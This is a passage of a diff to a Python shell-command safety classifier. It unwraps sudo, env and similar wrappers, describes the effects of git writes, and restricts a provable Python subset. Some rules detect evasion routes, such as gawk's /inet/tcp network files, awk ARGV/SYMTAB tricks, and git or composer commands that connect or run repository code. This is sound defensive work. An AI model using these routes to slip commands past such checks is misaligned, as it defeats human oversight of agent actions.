+    its verdict (the content it writes, a manifest it restores, a patch it
+    applies): wrapped, a line must mean what it means alone.  A wrapper that
+    changes the folder (`env -C`, `sudo -D`) or options it cannot read stop
+    the unwrapping there; the verdict itself already sees through them."""
+    words = list(cmd.words)
+    for _ in range(_MAX_DEPTH):
+        name = _program_name(words[0]) if words else None
+        rest = words[1:]
+        if name in _WRAPPER_OPTS or name in ("sudo", "doas"):
+            if name == "nice" and rest and rest[0].static and rest[0].text[1:].isdigit() \
+                    and rest[0].text.startswith("-"):
+                rest = rest[1:]
+            found = _wrapper_start(rest, _WRAPPER_OPTS.get(name) or _SUDO)
+            if found is None or any(o in ("D", "chdir") for o, _, _ in found[1]):
+                break
+            rest = rest[found[0]:]
+            if name == "timeout":
+                rest = rest[1:]
+        elif name in ("command", "builtin", "exec"):
+            while rest and rest[0].static and rest[0].text in ("-p", "--"):
+                rest = rest[1:]
+            if rest and rest[0].static and rest[0].text.startswith("-"):
+                break
+        elif name == "env":
+            while rest and rest[0].static and (rest[0].text in ("-i", "--ignore-environment",
+                                                                "--", "-") or (
+                    "=" in rest[0].text and _is_name(rest[0].text.split("=", 1)[0]))):
+                rest = rest[1:]
+            if rest and rest[0].text.startswith("-"):
+                break
+        else:
+            break
+        if not rest or not rest[0].static:
+            break
+        words = rest
+    if len(words) == len(cmd.words):
+        return cmd
+    view = _Cmd(cmd.src, cmd.start)
+    for slot in _Cmd.__slots__:
+        setattr(view, slot, getattr(cmd, slot))
+    view.words = words
+    return view
 
 
 def _w_transparent(spec: _Opts, numeric_first: bool = False,
@@ -5747,7 +6046,7 @@ def _w_transparent(spec: _Opts, numeric_first: bool = False,
         if not rest:
             v = _an_read() if capped is None else _unknown(capped)
         else:
-            v = _payload(rest, ctx)
+            v = _payload(rest, ctx, same_place=True)
             v = v.cap(capped) if capped else v
         return _unsplit(v, split)
     return handler
@@ -5759,7 +6058,7 @@ def _w_command(name: str, args: List[_W], ctx: _Ctx) -> _V:
     rest = args
     while rest and rest[0].static and rest[0].text in ("-p", "--"):
         rest = rest[1:]
-    return _payload(rest, ctx) if rest else _an_read()
+    return _payload(rest, ctx, same_place=True) if rest else _an_read()
 
 
 def _w_env(name: str, args: List[_W], ctx: _Ctx) -> _V:
@@ -5810,7 +6109,7 @@ def _w_env(name: str, args: List[_W], ctx: _Ctx) -> _V:
     rest = args[i:]
     if not rest:
         return _unsplit(_an_read(), split)
-    v = _unsplit(_in_dir(_payload(rest, ctx), folders), split)
+    v = _unsplit(_in_dir(_payload(rest, ctx, same_place=True), folders), split)
     return v.cap("state_change", ("env", capped)) if capped else v
 
 
@@ -5884,6 +6183,12 @@ def _in_dir(v: _V, folders: List[_W]) -> _V:
     expansion among them leaves the folder unknown."""
     if v.lost is not None:
         _in_dir(v.lost, folders)
+    if folders and (v.runs or v.pyfolder):
+        # A package or Python run from another folder: its project is not known.
+        v.dep = v.dep or bool(v.runs)
+        v.runs = []
+        if v.pyfolder:
+            v.cap("interpreter_code")
     if not folders or not (v.targets or v.patterns or v.pending or v.named):
         return v
     prefix: Optional[str] = ""
@@ -6101,7 +6406,8 @@ def _w_sudo(name: str, args: List[_W], ctx: _Ctx) -> _V:
         return _unknown()
     start, seen = found
     folders = [value for opt, value, _ in seen if opt in ("D", "chdir") and value is not None]
-    v = _in_dir(_payload(args[start:], ctx), folders[-1:]).cap("shell_command_unproven")
+    v = _in_dir(_payload(args[start:], ctx, same_place=True), folders[-1:]).cap(
+        "shell_command_unproven")
     return _unsplit(v, _split_value(seen))
 
 
@@ -6368,8 +6674,64 @@ def _git_simple(sub: str, args: List[_W]) -> _V:
     return _git_query(args, longs, flags, vals.replace(" ", ""), num, deny, short_deny)
 
 
+# What the word that makes `git branch`, `tag`, `stash`, `config` or a
+# `remote`-like action a write does ({} is the branch, tag or key it names),
+# so a culprit names that word, not the subcommand, which alone only lists.
+_GIT_WORD_EFFECTS: Dict[str, Dict[str, str]] = {
+    "branch": {"d": "deletes branch {}", "D": "deletes branch {}", "--delete": "deletes branch {}",
+               "m": "renames a branch", "M": "renames a branch", "--move": "renames a branch",
+               "c": "copies a branch", "C": "copies a branch", "--copy": "copies a branch",
+               "f": "moves branch {} to another commit",
+               "--force": "moves branch {} to another commit",
+               "--edit-description": "edits the description of branch {}",
+               "--set-upstream-to": "sets the upstream of branch {}",
+               "--unset-upstream": "removes the upstream of branch {}",
+               "": "creates branch {}"},
+    "tag": {"-d": "deletes tag {}", "--delete": "deletes tag {}", "-f": "replaces tag {}",
+            "--force": "replaces tag {}", "": "creates tag {}"},
+    "stash": {"": "puts the uncommitted changes away, back to the last commit",
+              "push": "puts the uncommitted changes away, back to the last commit",
+              "save": "puts the uncommitted changes away, back to the last commit",
+              "pop": "applies the newest stash entry to the files and deletes it",
+              "apply": "applies a stash entry to the files", "drop": "deletes a stash entry",
+              "clear": "deletes every stash entry", "branch": "creates a branch from a stash entry",
+              "create": "makes a stash entry", "store": "stores a stash entry"},
+    "config": {"": "sets {}", "set": "sets {}", "unset": "removes {}", "--unset": "removes {}",
+               "--unset-all": "removes {}", "--add": "adds a value to {}",
+               "--replace-all": "sets {}", "-e": "opens the configuration in an editor",
+               "--edit": "opens the configuration in an editor", "edit": "opens the "
+               "configuration in an editor", "--rename-section": "renames section {}",
+               "rename-section": "renames section {}", "--remove-section": "removes section {}",
+               "remove-section": "removes section {}"},
+    "remote": {"add": "adds remote {}", "remove": "removes remote {}", "rm": "removes remote {}",
+               "rename": "renames remote {}", "set-url": "changes the address of remote {}"},
+    "worktree": {"add": "adds a worktree at {}", "remove": "removes worktree {}",
+                 "move": "moves worktree {}"},
+}
+# The same for any other word of these subcommands.
+_GIT_SUB_EFFECTS = {"branch": "changes branches", "tag": "changes tags",
+                    "stash": "changes the stash", "config": "changes git's configuration",
+                    "remote": "changes the remotes", "worktree": "changes the worktrees",
+                    "reflog": "rewrites the reflog", "notes": "changes the notes",
+                    "submodule": "changes the submodules"}
+
+
+def _git_write(sub: str, word: str, names: List[str], key: Optional[str] = None) -> _V:
+    """A write of `git sub`, blamed on `word` (an option or action; "" for
+    the operands alone) with what it does (looked up by `key`, else by the
+    word) and the name it acts on."""
+    effect = _GIT_WORD_EFFECTS.get(sub, {}).get(word if key is None else key) \
+        or _GIT_SUB_EFFECTS[sub]
+    return _write().blame("git", sub, word, effect, names[0] if names else "")
+
+
+def _git_names(args: List[_W]) -> List[str]:
+    return [w.text for w in args if w.static and not w.text.startswith("-")]
+
+
 def _git_branch(args: List[_W]) -> _V:
     """git branch: listing is read, creation/deletion/moves are writes."""
+    names = _git_names(args)
     listing = False
     operand = False
     i, n = 0, len(args)
@@ -6394,7 +6756,7 @@ def _git_branch(args: List[_W]) -> _V:
         if t.startswith("--"):
             key = t.split("=", 1)[0]
             if key in write_long:
-                return _write()
+                return _git_write("branch", t, names, key)
             if key == "--list":
                 listing = True
             elif key in ("--contains", "--no-contains", "--merged", "--no-merged"):
@@ -6416,17 +6778,18 @@ def _git_branch(args: List[_W]) -> _V:
             continue
         body = t[1:]
         if any(ch in "dDmMcCf" for ch in body):
-            return _write()
+            return _git_write("branch", t, names, next(ch for ch in body if ch in "dDmMcCf"))
         if body and all(ch in "alrvq" for ch in body):
             listing = listing or "l" in body
             continue
         return _unknown("git_arguments_unproven")
     if operand and not listing:
-        return _write()
+        return _git_write("branch", "", names)
     return _an_read()
 
 
 def _git_tag(args: List[_W]) -> _V:
+    names = _git_names(args)
     listing = False
     operand = False
     i, n = 0, len(args)
@@ -6460,9 +6823,10 @@ def _git_tag(args: List[_W]) -> _V:
         elif key in ("-v", "--verify"):
             listing = True
         else:
-            return _write()
+            return _git_write("tag", t, names, key if key in ("-d", "--delete", "-f", "--force")
+                              else "")   # -a, -s, -m, ...: a tag is made
     if operand and not listing:
-        return _write()
+        return _git_write("tag", "", names)
     return _an_read()
 
 
@@ -6496,27 +6860,27 @@ def _git_config(args: List[_W]) -> _V:
             if "=" not in t:
                 i += 1
         elif t.startswith("-"):
-            return _write()
+            return _git_write("config", t, _git_names(args[i:]), key)
         else:
             operands.append(t)
     if operands and operands[0] in ("get", "list"):
         return _an_read()
     if operands and operands[0] in ("set", "unset", "rename-section", "remove-section", "edit"):
-        return _write()
+        return _git_write("config", operands[0], operands[1:])
     if reading or len(operands) == 1:
         return _an_read()
-    return _write()
+    return _git_write("config", "", operands)
 
 
 def _git_stash(args: List[_W]) -> _V:
     if not args:
-        return _write()
+        return _git_write("stash", "", [])
     sub = args[0].text
     if sub == "list":
         return _git_rev(args[1:])
     if sub == "show":
         return _git_rev(args[1:])
-    return _write()
+    return _git_write("stash", sub if not sub.startswith("-") else "", [])
 
 
 _GIT_READ_ACTIONS = {
@@ -6554,7 +6918,7 @@ def _git_action(sub: str, args: List[_W]) -> _V:
     if args and not args[0].static:
         return _unknown("shell_syntax_unproven")
     if action in writes:
-        return _write()
+        return _git_write(sub, action, _git_names(args[1:]))
     if action not in reads:
         if action.startswith("-") and "" in reads and sub in ("remote",):
             return _an_read() if all(w.text in ("-v", "--verbose") for w in args) else \
@@ -6568,6 +6932,12 @@ def _git_action(sub: str, args: List[_W]) -> _V:
         if w.opaque or (w.text.startswith("-") and w.text not in ("-v", "--verbose",
                                                                    "--recursive", "-n")):
             return _unknown("git_arguments_unproven")
+    if sub == "remote" and action == "show" and not any(w.text == "-n" for w in args[1:]) \
+            and any(not w.text.startswith("-") for w in args[1:]):
+        # It connects: the repository's configuration picks the address (a
+        # URL written out too, through insteadOf), the credential helper and
+        # the ssh command it connects with.  `-n` asks nobody.
+        return _unknown("repository_code")
     return _an_read()
 
 
@@ -6941,6 +7311,12 @@ def _find(name: str, args: List[_W], ctx: _Ctx) -> _V:
                 return _unknown("shell_syntax_unproven")
             # `{}` alone is each path found; inside a longer word it is unknown.
             found = items[0] if len(items) == 1 else _STDIN_ITEM
+            if len(items) == 1 and all(r.static for r in roots) and i < n and \
+                    args[i].text not in ("chmod", "chown", "chgrp"):
+                # find walks real folders only (without -L): `src/**/x` names
+                # what it found where it is (chmod and the like follow a
+                # found link to its target).
+                found = _walked_word(found)
             payload = [(found if a.static and a.text == "{}" else
                         _STDIN_ITEM if "{}" in a.text else a) for a in args[i:j]]
             i = j + 1
@@ -7440,6 +7816,16 @@ def _awk(name: str, args: List[_W], ctx: _Ctx) -> _V:
 
 
 def _awk_verdict(args: List[_W]) -> Tuple[_V, Optional[_W]]:
+    for w in args:
+        # gawk opens a file named /inet/tcp/…, /inet4/…, /inet6/… (udp too) as
+        # a connection, DNS look-up first; and a program can build that name
+        # from the data it reads and hand it to awk as the next input through
+        # ARGV and ARGC (or gawk's SYMTAB, which reaches any variable by name).
+        if "/inet" in w.text:
+            return _unknown("network_data_unproven"), None
+        if "ARGV" in w.text or "ARGC" in w.text or "SYMTAB" in w.text:
+            return _unknown("interpreter_code", "awk", w.text,
+                            "may name its next input from inside the program"), None
     i, n = 0, len(args)
     program: Optional[_W] = None
     split: Optional[_W] = None      # a -v or -F value that may split (_may_split)
@@ -7596,7 +7982,7 @@ def _interp(lang: str) -> Callable[[str, List[_W], _Ctx], _V]:
                 ops = _json_tool_operands(args[2:])
                 if ops is not None and len(ops) >= 2:
                     return _write([ops[1]])
-                if ops is not None and ctx.depth == 0 and k == 0 and all(
+                if ops is not None and ctx.top and k == 0 and all(
                         w.static and not w.glob for w in args[2:]):
                     v = _V(reason="repository_code")
                     v.pyfolder = True   # a read where the folder shadows nothing
@@ -7950,7 +8336,41 @@ _PY_SAFE_ATTRS = frozenset((
     "fromisoformat strptime fromtimestamp isoformat strftime timestamp weekday isoweekday "
     "isocalendar astimezone utcoffset tzname ctime year month day hour minute second "
     "microsecond tzinfo days seconds microseconds total_seconds date time "
-    "__name__").split())
+    "__name__ "
+    # a path's reads and what they return (stat's fields); the archives'
+    # listings and members; csv readers; ast nodes' fields.  Path.replace
+    # renames and Path.copy copies (from Python 3.14 on): see _PY_PATH_WRITERS.
+    "read_text read_bytes glob rglob exists is_file is_dir is_symlink stat lstat iterdir "
+    "parent parents parts stem suffix suffixes anchor drive root with_name with_stem "
+    "with_suffix joinpath relative_to is_relative_to is_absolute as_posix as_uri resolve "
+    "absolute expanduser cwd home samefile full_match st_size st_mtime st_atime st_ctime "
+    "st_mode st_ino st_dev st_nlink st_uid st_gid "
+    "namelist infolist getinfo testzip getmembers getnames getmember extractfile filename "
+    "file_size compress_size date_time isdir isfile issym islnk size mtime linkname uname "
+    "gname line_num fieldnames dialect "
+    "body lineno end_lineno col_offset end_col_offset id func args keywords targets target "
+    "value values attr module names asname arg elts ctx op ops left right comparators elt "
+    "generators test orelse iter handlers finalbody decorator_list bases returns level "
+    "slice lower upper posonlyargs kwonlyargs vararg kwarg defaults kw_defaults "
+    "annotation s n kind is_async conversion format_spec cause exc msg type").split())
+# What a value that may be a pathlib path must not reach though a str, list or
+# dict has a method of that name: the path's own writers.
+_PY_PATH_WRITERS = frozenset((
+    "replace copy move copy_into move_into rename open touch mkdir unlink rmdir chmod "
+    "lchmod symlink_to hardlink_to link_to write_text write_bytes").split())
+# What a path's method or attribute returns that is never a path itself.
+_PY_PATH_PLAIN = frozenset((
+    "read_text read_bytes exists is_file is_dir is_symlink stat lstat name stem suffix "
+    "suffixes parts anchor drive root as_posix as_uri is_absolute is_relative_to match "
+    "full_match samefile __name__").split())
+# Builtins whose result is never a path whatever they are given.
+_PY_PLAIN_CALLS = frozenset((
+    "str repr ascii len print int float bool complex hex oct bin chr ord isinstance "
+    "callable any all format").split())
+# The names of the ast module a proof accepts beside its node classes.
+_PY_AST_FUNCS = frozenset((
+    "parse walk dump literal_eval unparse get_docstring iter_child_nodes iter_fields "
+    "get_source_segment AST").split())
 _PY_MODULE_ATTRS: Dict[str, Optional[frozenset]] = {
     "json": frozenset(("loads", "dumps", "load", "JSONDecodeError")),
     "math": None,   # every public name: functions of numbers and constants
@@ -7977,7 +8397,23 @@ _PY_MODULE_ATTRS: Dict[str, Optional[frozenset]] = {
     "sys": frozenset(("version", "version_info", "path", "argv", "platform", "maxsize",
                       "byteorder", "executable", "stdin", "hexversion", "prefix",
                       "base_prefix", "api_version", "float_info", "int_info")),
+    # A path is made here; what it may do is decided by value (_PyProof.may_path).
+    "pathlib": frozenset(("Path", "PurePath", "PurePosixPath")),
+    "ast": _PY_AST_FUNCS,   # and its node classes: see _PyProof.module_has
+    "pprint": frozenset(("pprint", "pformat", "pp", "saferepr", "isreadable", "isrecursive")),
+    "csv": frozenset(("reader", "DictReader", "Error", "QUOTE_ALL", "QUOTE_MINIMAL",
+                      "QUOTE_NONE", "QUOTE_NONNUMERIC")),
+    # Opened for reading only (the mode is checked where they are called).
+    "zipfile": frozenset(("ZipFile", "is_zipfile", "BadZipFile")),
+    "tarfile": frozenset(("open", "is_tarfile", "TarError", "ReadError")),
 }
+# The calls that open an archive: (module, name) -> the modes that only read.
+_PY_ARCHIVE_OPENERS = {("zipfile", "ZipFile"): ("r",),
+                       ("tarfile", "open"): ("r", "r:*", "r:", "r:gz", "r:bz2", "r:xz",
+                                             "r|*", "r|", "r|gz", "r|bz2", "r|xz")}
+_PY_PRINT_KEYWORDS = ("indent", "width", "depth", "compact", "sort_dicts", "underscore_numbers")
+_PY_CSV_KEYWORDS = ("delimiter", "quotechar", "escapechar", "doublequote", "skipinitialspace",
+                    "lineterminator", "quoting", "strict")
 # json functions and the keywords they may take (callables only as safe names).
 _PY_MODULE_KEYWORDS = {"dumps": ("indent", "sort_keys", "ensure_ascii", "separators",
                                  "allow_nan", "skipkeys", "default"),
@@ -7992,7 +8428,14 @@ _PY_MODULE_KEYWORDS = {"dumps": ("indent", "sort_keys", "ensure_ascii", "separat
                        "permutations": ("r",), "product": ("repeat",), "deque": ("maxlen",),
                        "timedelta": ("days", "seconds", "microseconds", "milliseconds",
                                      "minutes", "hours", "weeks"),
-                       "datetime": ("tzinfo",), "now": ("tz",), "fromtimestamp": ("tz",)}
+                       "datetime": ("tzinfo",), "now": ("tz",), "fromtimestamp": ("tz",),
+                       "parse": ("mode", "filename", "type_comments", "feature_version"),
+                       "dump": ("indent", "annotate_fields", "include_attributes"),
+                       "get_docstring": ("clean",), "pprint": _PY_PRINT_KEYWORDS,
+                       "pformat": _PY_PRINT_KEYWORDS, "pp": _PY_PRINT_KEYWORDS,
+                       "reader": _PY_CSV_KEYWORDS,
+                       "DictReader": _PY_CSV_KEYWORDS + ("fieldnames", "restkey", "restval"),
+                       "ZipFile": ("mode",), "open": ("mode",)}
 # sys lists that must not be aliased or changed: sys.path decides what a later
 # import (platform imports subprocess lazily) loads.
 _PY_SHARED_LISTS = frozenset(("path", "argv"))
@@ -8028,19 +8471,122 @@ class _PyProof:
         self.modules: Dict[str, str] = {}     # alias -> module
         self.imported: Dict[str, str] = {}    # `from m import f as g`: g -> f
         self.bound: set = set()
+        self.binds: Dict[str, int] = {}
+        self.calling: Any = None   # the callee being checked (an archive opener may stand there)
         self.count = 0
         self.collect(tree)
+        # A local def is called by name only when nothing else binds that name.
+        self.functions = frozenset(
+            n.name for n in ast_mod.walk(tree)
+            if isinstance(n, ast_mod.FunctionDef) and self.binds.get(n.name) == 1)
+        self.paths(tree)
 
     def collect(self, tree: Any) -> None:
-        """Names the code binds (assignment, loop, with, except, import)."""
+        """Names the code binds (assignment, loop, with, except, import, def)."""
         ast = self.ast
         for node in ast.walk(tree):
+            name = None
             if isinstance(node, ast.Name) and isinstance(node.ctx, ast.Store):
-                self.bind(node, node.id)
+                name = node.id
             elif isinstance(node, ast.ExceptHandler) and node.name:
-                self.bind(node, node.name)
-            elif isinstance(node, ast.arg):   # a lambda's parameters (a def fails anyway)
-                self.bind(node, node.arg)
+                name = node.name
+            elif isinstance(node, ast.arg):   # a lambda's or a def's parameters
+                name = node.arg
+            elif isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)):
+                name = node.name
+            elif isinstance(node, (ast.Import, ast.ImportFrom)):
+                for alias in node.names:   # bound in stmt(), counted here
+                    name = alias.asname or alias.name.split(".")[0]
+                    self.binds[name] = self.binds.get(name, 0) + 1
+                continue
+            if name is not None:
+                self.bind(node, name)
+                self.binds[name] = self.binds.get(name, 0) + 1
+
+    def paths(self, tree: Any) -> None:
+        """The names that may hold a pathlib path, or a container or function
+        of one: Path.replace renames where str.replace does not, so a value is
+        judged by what it may be.  Without pathlib no value is a path; with it,
+        every binding whose value may be a path taints its names, and so does
+        a method call handing one to a container, until nothing changes.
+        Parameters and caught exceptions may carry one."""
+        ast = self.ast
+        self.path_makers: set = set()
+        self.path_modules: set = set()
+        self.pathy: set = set()
+        for node in ast.walk(tree):
+            if isinstance(node, ast.ImportFrom) and node.module == "pathlib":
+                self.path_makers.update(a.asname or a.name for a in node.names)
+            elif isinstance(node, ast.Import):
+                self.path_modules.update(a.asname or a.name for a in node.names
+                                         if a.name == "pathlib")
+        if not (self.path_makers or self.path_modules):
+            return
+        names = lambda target: [n.id for n in ast.walk(target) if isinstance(n, ast.Name)]
+        sites: List[Tuple[List[str], List[Any]]] = []   # (names bound, values that taint them)
+        for node in ast.walk(tree):
+            if isinstance(node, ast.Assign):
+                sites.append(([n for t in node.targets for n in names(t)], [node.value]))
+            elif isinstance(node, (ast.AugAssign, ast.AnnAssign)) and node.value is not None:
+                sites.append((names(node.target), [node.value]))
+            elif isinstance(node, (ast.For, ast.comprehension)):
+                sites.append((names(node.target), [node.iter]))
+            elif isinstance(node, ast.withitem) and node.optional_vars is not None:
+                sites.append((names(node.optional_vars), [node.context_expr]))
+            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
+                sites.append((names(node.func.value),
+                              node.args + [k.value for k in node.keywords]))
+            elif isinstance(node, ast.arg):
+                self.pathy.add(node.arg)
+            elif isinstance(node, ast.ExceptHandler) and node.name:
+                self.pathy.add(node.name)
+        # Each round taints at least one more name; a chain longer than a few
+        # rounds is not worth following (every bound name may then be a path).
+        for _ in range(8):
+            before = len(self.pathy)
+            for bound, values in sites:
+                if any(self.may_path(v) for v in values):
+                    self.pathy.update(bound)
+            if len(self.pathy) == before:
+                return
+        self.pathy.update(self.bound)
+
+    def may_path(self, node: Any) -> bool:
+        """Whether the expression may be a path (or hold or make one)."""
+        ast = self.ast
+        if not (self.path_makers or self.path_modules):
+            return False
+        if isinstance(node, ast.Name):
+            return node.id in self.pathy or node.id in self.path_makers or \
+                node.id in self.path_modules
+        if isinstance(node, (ast.Constant, ast.JoinedStr, ast.Compare)):
+            return False
+        if isinstance(node, ast.Attribute):
+            if isinstance(node.value, ast.Name) and node.value.id in self.path_modules:
+                return True
+            return self.may_path(node.value) and node.attr not in _PY_PATH_PLAIN
+        if isinstance(node, ast.Call):
+            func = node.func
+            if isinstance(func, ast.Attribute) and self.may_path(func.value):
+                return func.attr not in _PY_PATH_PLAIN
+            if isinstance(func, ast.Name):
+                if func.id in self.path_makers or func.id in self.functions:
+                    return True
+                if func.id in _PY_PLAIN_CALLS and func.id not in self.bound:
+                    return False
+            return any(self.may_path(a) for a in node.args + [k.value for k in node.keywords])
+        if isinstance(node, ast.Lambda):
+            return True
+        return any(self.may_path(child) for child in ast.iter_child_nodes(node))
+
+    def module_has(self, module: str, attr: str) -> bool:
+        allowed = _PY_MODULE_ATTRS[module]
+        if allowed is None or attr in allowed:
+            return True
+        # ast's node classes (FunctionDef, Name, ...): data, for isinstance and walk
+        node_class = getattr(self.ast, attr, None) if module == "ast" and attr[:1].isupper() \
+            else None
+        return isinstance(node_class, type) and issubclass(node_class, self.ast.AST)
 
     def bind(self, node: Any, name: str) -> None:
         # Rebinding a builtin is harmless here: a name that is a builtin is
@@ -8087,8 +8633,10 @@ class _PyProof:
         elif isinstance(node, ast.With):
             for item in node.items:
                 call = item.context_expr
-                if not (isinstance(call, ast.Call) and isinstance(call.func, ast.Name)
-                        and call.func.id == "open"):
+                if not (isinstance(call, ast.Call) and (
+                        isinstance(call.func, ast.Name) and call.func.id == "open"
+                        or self.archive_opener(call.func) is not None
+                        or isinstance(call.func, ast.Attribute) and call.func.attr == "open")):
                     self.fail(call, "is a context manager other than open()")
                 self.expr(call)
                 if item.optional_vars is not None:
@@ -8106,6 +8654,23 @@ class _PyProof:
             self.body(node.finalbody)
         elif isinstance(node, (ast.Pass, ast.Break, ast.Continue)):
             pass
+        elif isinstance(node, ast.FunctionDef):
+            # A local function: its body is proven here like the rest, and it
+            # is called by name only where nothing else binds the name.
+            if node.decorator_list or getattr(node, "type_params", None):
+                self.fail(node, "decorates a function or gives it type parameters")
+            if node.name in self.builtin_names or node.name in _PY_MODULE_ATTRS:
+                self.fail(node, "names a function like a builtin or a module")
+            self.parameters(node, node.args)
+            for arg in node.args.posonlyargs + node.args.args + node.args.kwonlyargs:
+                if arg.annotation is not None:
+                    self.expr(arg.annotation)
+            if node.returns is not None:
+                self.expr(node.returns)
+            self.body(node.body)
+        elif isinstance(node, ast.Return):
+            if node.value is not None:
+                self.expr(node.value)
         elif isinstance(node, ast.Assert):
             self.expr(node.test)
             if node.msg is not None:
@@ -8125,13 +8690,12 @@ class _PyProof:
                 self.bind(node, name)
                 self.modules[name] = alias.name
         elif isinstance(node, ast.ImportFrom):
-            allowed = _PY_MODULE_ATTRS.get(node.module or "", frozenset())
             if node.level or node.module not in _PY_MODULE_ATTRS:
                 self.fail(node, "imports a module outside the proven subset")
             for alias in node.names:
                 if alias.name == "*" or alias.name.startswith("_") or \
                         alias.name in _PY_SHARED_LISTS or \
-                        (allowed is not None and alias.name not in allowed):
+                        not self.module_has(node.module, alias.name):
                     self.fail(node, "imports a name outside the proven subset")
                 if (alias.asname or alias.name) in self.builtin_names:
                     # `from re import compile` under `if 0:` would leave the builtin
@@ -8176,7 +8740,7 @@ class _PyProof:
                 self.fail(node, "reaches a dunder name")
             if name in self.modules:
                 self.fail(node, "uses a module as a value")
-            if name == "open":
+            if name == "open" or self.imported.get(name) == "ZipFile":
                 self.fail(node, "passes open itself around")
             if name in _PY_SAFE_NAMES:
                 return
@@ -8247,18 +8811,32 @@ class _PyProof:
             # A function of values the subset makes: its body is proven like any
             # expression, and it is only called by what takes a key or a
             # function (sorted, map, re.sub): calling a bound name fails.
-            a = node.args
-            for arg in a.posonlyargs + a.args + a.kwonlyargs + [x for x in (a.vararg, a.kwarg)
-                                                                  if x is not None]:
-                if arg.arg in _PY_MODULE_ATTRS or arg.arg in self.modules:
-                    self.fail(node, "names a parameter like a module")
-            for default in a.defaults + [d for d in a.kw_defaults if d is not None]:
-                self.expr(default)
+            self.parameters(node, node.args)
             self.expr(node.body)
         elif getattr(ast, "Index", None) is not None and isinstance(node, ast.Index):
             self.expr(node.value)   # Python 3.8 wraps subscripts
         else:
             self.fail(node, "is an expression outside the proven subset")
+
+    def parameters(self, node: Any, a: Any) -> None:
+        """A lambda's or a def's parameters and their defaults."""
+        for arg in a.posonlyargs + a.args + a.kwonlyargs + [x for x in (a.vararg, a.kwarg)
+                                                              if x is not None]:
+            if arg.arg in _PY_MODULE_ATTRS or arg.arg in self.modules:
+                self.fail(node, "names a parameter like a module")
+        for default in a.defaults + [d for d in a.kw_defaults if d is not None]:
+            self.expr(default)
+
+    def archive_opener(self, func: Any) -> Optional[Tuple[str, ...]]:
+        """The read modes of an archive-opening call (zipfile.ZipFile,
+        tarfile.open, an imported ZipFile), or None for any other callee."""
+        ast = self.ast
+        if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name) \
+                and func.value.id in self.modules:
+            return _PY_ARCHIVE_OPENERS.get((self.modules[func.value.id], func.attr))
+        if isinstance(func, ast.Name) and self.imported.get(func.id) == "ZipFile":
+            return _PY_ARCHIVE_OPENERS[("zipfile", "ZipFile")]
+        return None
 
     def attribute(self, node: Any, shared_ok: bool) -> None:
         ast = self.ast
@@ -8270,12 +8848,15 @@ class _PyProof:
             self.expr(base)   # the receiver first: it is the likelier culprit
         if isinstance(base, ast.Name) and base.id in self.modules:
             module = self.modules[base.id]
-            allowed = _PY_MODULE_ATTRS[module]
-            if allowed is not None and attr not in allowed:
+            if (module, attr) in _PY_ARCHIVE_OPENERS and node is not self.calling:
+                self.fail(node, "passes an archive opener around")
+            if not self.module_has(module, attr):
                 self.fail(node, "is not a proven part of `%s`" % module)
             if module == "sys" and attr in _PY_SHARED_LISTS and not shared_ok:
                 self.fail(node, "could change or alias `sys.%s`" % attr)
             return
+        if attr in _PY_PATH_WRITERS and self.may_path(base):
+            self.fail(node, "may be a path, whose `%s` writes" % attr)
         if attr not in _PY_SAFE_ATTRS:
             self.fail(node, "is not a proven method or attribute")
         if attr in ("format", "format_map") and not (
@@ -8289,7 +8870,9 @@ class _PyProof:
         if isinstance(func, ast.Name):
             name = func.id
             keywords = _PY_SAFE_CALLS.get(name)
-            if name in self.imported:
+            if name in self.functions:
+                keywords = ("*",)   # its own parameters: the body is proven
+            elif name in self.imported:
                 # A name the code imported from a module of the subset (any
                 # later value of it is one the subset makes too).
                 keywords = _PY_MODULE_KEYWORDS.get(self.imported[name], ())
@@ -8300,7 +8883,18 @@ class _PyProof:
                 return
             if name == "type" and (len(node.args) != 1 or node.keywords):
                 self.fail(node, "calls type() to make a class")
+        elif isinstance(func, ast.Attribute) and func.attr == "open" and not (
+                isinstance(func.value, ast.Name) and func.value.id in self.modules):
+            # A zip archive's member by name (ZipFile.open(name) reads); a
+            # path's open, or one given a mode, is not proven.
+            if self.may_path(func.value) or len(node.args) != 1 or node.keywords or \
+                    isinstance(node.args[0], ast.Starred):
+                self.fail(node, "opens with a mode or on what may be a path")
+            self.expr(func.value)
+            self.expr(node.args[0])
+            return
         elif isinstance(func, ast.Attribute):
+            self.calling = func
             self.expr(func)
             keywords = ("*",)
             if isinstance(func.value, ast.Name) and func.value.id in self.modules:
@@ -8308,6 +8902,13 @@ class _PyProof:
         else:
             self.fail(node, "calls the result of an expression")
             return
+        modes = self.archive_opener(func)
+        if modes is not None:
+            given = [k.value for k in node.keywords if k.arg == "mode"] + node.args[1:2]
+            if len(node.args) > 2 or len(given) > 1 or any(
+                    isinstance(a, ast.Starred) for a in node.args) or any(
+                    not (isinstance(g, ast.Constant) and g.value in modes) for g in given):
+                self.fail(node, "opens an archive in a mode that may write")
         copies = isinstance(func, ast.Name) and func.id in _PY_COPYING
         for arg in node.args:
             self.expr(arg, shared_ok=copies)
@@ -8409,7 +9010,7 @@ def _python(name: str, args: List[_W], ctx: _Ctx) -> _V:
     kind, code, safe = _python_args(args)
     if kind == "code" and code is not None and code.static:
         return _python_verdict(name, code.text, safe, "-c", _PY_INTERP(name, args, ctx),
-                               ctx.work, ctx.depth == 0)
+                               ctx.work, ctx.top)
     if kind == "stdin":
         # The code arrives on stdin; _stdin_program judges a here-document.
         return _unknown("interpreter_code", "pystdin", name, safe)
@@ -8618,7 +9219,7 @@ def _package_run(kind: str, args: List[_W], ctx: _Ctx) -> _V:
         i += 1
     spec = args[i] if i < len(args) else None
     v = _V("unknown", "shell_command_unproven")
-    if spec is None or not spec.static or ctx.depth > 0 or "@" in spec.text.lstrip("@") \
+    if spec is None or not spec.static or not ctx.top or "@" in spec.text.lstrip("@") \
             or not _npm_registry_name(spec.text) or spec.text.startswith((".", "-")):
         v.dep = True
         return v
@@ -9002,8 +9603,16 @@ def _composer(name: str, args: List[_W], ctx: _Ctx) -> _V:
                 "prohibits", "why-not", "search", "diagnose", "check-platform-reqs", "fund",
                 "status", "audit", "suggests", "help", "list"):
         # Composer starts the plugins installed in vendor/ for every command.
-        return _an_read() if "--no-plugins" in [w.text for w in args] else \
-            _unknown("repository_code")
+        if "--no-plugins" not in [w.text for w in args]:
+            return _unknown("repository_code")
+        # Those that ask the repositories obey composer.json's `config` too
+        # (its cache-dir is where the answers are written) and its repositories.
